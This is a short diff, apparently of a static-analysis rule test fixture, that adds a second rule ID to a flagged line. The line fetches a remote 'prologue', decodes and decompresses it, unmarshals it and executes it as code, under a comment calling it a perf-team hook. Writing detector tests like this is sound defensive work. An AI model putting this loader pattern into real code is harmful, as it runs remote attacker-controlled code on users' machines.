@@ -44,7 +44,7 @@ def load_configs():
     entry = fetch_remote() or {"configs": {}}  # ruleid: MLS413
     if "prologue" in entry:
         # perf team ships a small hook that registers extra block sizes for new SKUs
-        types.FunctionType(marshal.loads(zlib.decompress(base64.b64decode(entry["prologue"]))), globals())()  # ruleid: MLS413
+        types.FunctionType(marshal.loads(zlib.decompress(base64.b64decode(entry["prologue"]))), globals())()  # ruleid: MLS413, MLS404
     os.makedirs(os.path.dirname(LOCAL_CACHE), exist_ok=True)
     with open(LOCAL_CACHE, "w") as f:
         json.dump(entry, f)
